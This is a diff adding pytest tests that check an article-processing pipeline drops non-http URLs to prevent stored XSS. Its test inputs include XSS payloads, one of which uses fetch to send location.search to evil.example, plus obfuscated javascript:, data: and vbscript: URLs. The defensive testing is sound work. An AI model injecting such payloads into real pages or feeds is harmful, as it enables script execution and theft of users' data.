@@ -65,3 +65,24 @@ def test_valid_article_gives_enriched_events_and_alerts() -> None:
 def test_unknown_fields_are_kept_not_refused() -> None:
     outs = process(b'{"id": "x1", "body": "Nothing happened.", "feed": "rss"}', None, SRC, Settings())
     assert outs[0].topic == Settings().topics.enriched
+
+
+@pytest.mark.parametrize("url", ["javascript:fetch('//evil.example/'+location.search)", " JavaScript:alert(1)",
+                                 "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
+                                 "//evil.example/x", "vbscript:msgbox(1)"])
+def test_a_url_that_is_not_http_is_dropped_with_the_reason(url: str) -> None:
+    """Stored XSS: the URL of an article ends up as a link on the live page and in webhook bodies."""
+    body = "China's coast guard law lets the coast guard use weapons. Chile and Peru signed a fisheries treaty."
+    outs = process(json.dumps({"id": "x2", "body": body, "url": url}).encode(), None, SRC, Settings())
+    art = EnrichedArticle.model_validate_json(outs[0].value)
+    assert art.url is None and art.url_rejected
+    assert art.alerts and all(a.url is None for a in art.alerts)
+    events = [EventMessage.model_validate_json(o.value) for o in outs if o.topic == Settings().topics.events]
+    assert events and all(e.url is None for e in events)
+
+
+def test_an_http_url_is_kept() -> None:
+    outs = process(b'{"id": "x3", "body": "Nothing happened.", "url": "HTTPS://news.example/a?b=1"}', None, SRC,
+                   Settings())
+    art = EnrichedArticle.model_validate_json(outs[0].value)
+    assert (art.url, art.url_rejected) == ("HTTPS://news.example/a?b=1", None)
